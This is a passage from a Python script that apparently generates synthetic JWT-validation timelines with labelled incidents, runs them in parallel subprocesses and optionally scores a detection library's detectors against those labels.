            "wall_s": round(self.wall, 1),
            "background_notes": self.notes,
        }
        doc = {
            "timeline": self.name,
            "quiet": self.quiet,
            "seed": self.seed,
            "start": iso(self.t0),
            "end": iso(self.t1),
            "generator": "fleet30",
            "incidents": labels,
            "summary": summary,
        }
        with open(os.path.join(self.out, "labels.json"), "w") as f:
            json.dump(doc, f, indent=1)
        print(
            json.dumps(
                {
                    "timeline": self.name,
                    "validations": len(tr),
                    "rejections": n_rej,
                    "incidents": [(lab["id"], lab["count"]) for lab in labels],
                    "wall_s": round(self.wall, 1),
                }
            ),
            flush=True,
        )

    def I_by_iss(self, iss):
        for i in self.I.values():
            if i.iss == iss:
                return i
        raise KeyError(iss)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True)
    ap.add_argument("--only", default=None)
    ap.add_argument("--seed-base", type=int, default=30000)
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--score", action="store_true", help="then score jwtobs's detectors on what is in --out")
    ap.add_argument("--score-only", action="store_true", help="do not generate: score what is in --out")
    a = ap.parse_args()
    names = [t[0] for t in TIMELINES]
    if a.score_only:
        return _score(a.out, [a.only] if a.only else names)
    if a.only:
        for i, (name, quiet, start, hours, plan) in enumerate(TIMELINES):
            if name == a.only:
                mp.set_forkserver_preload(["jwt", "jwtobs", "time_machine", "cryptography"])
                Sim(name, quiet, start, hours, plan, a.seed_base + i, a.out, a.scale).run()
                return
        sys.exit(f"unknown timeline {a.only}; one of {names}")
    # all timelines, a.jobs at a time, each in its own process
    pending = list(names)
    running: list = []
    while pending or running:
        while pending and len(running) < a.jobs:
            n = pending.pop(0)
            cmd = [
                sys.executable,
                os.path.abspath(__file__),
                "--out",
                a.out,
                "--only",
                n,
                "--seed-base",
                str(a.seed_base),
                "--scale",
                str(a.scale),
            ]
            running.append((n, subprocess.Popen(cmd)))
        time.sleep(0.5)
        for n, p in list(running):
            if p.poll() is not None:
                running.remove((n, p))
                if p.returncode:
                    print(f"{n}: exit {p.returncode}", file=sys.stderr)
    if a.score:
        _score(a.out, names)


def _score(out, names):
    """jwtobs's detectors over the generated timelines, scored as benchmarks/fleet22.py scores its own (a
    detection matches a label of its kind and entity overlapping it +-120 s; on a quiet day every detection is a
    false one). Written after the generator, which knows nothing of the detectors."""
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import fleet22

    fleet22.report([fleet22.score(Path(out) / n) for n in names if (Path(out) / n / "labels.json").exists()])


if __name__ == "__main__":
    main()
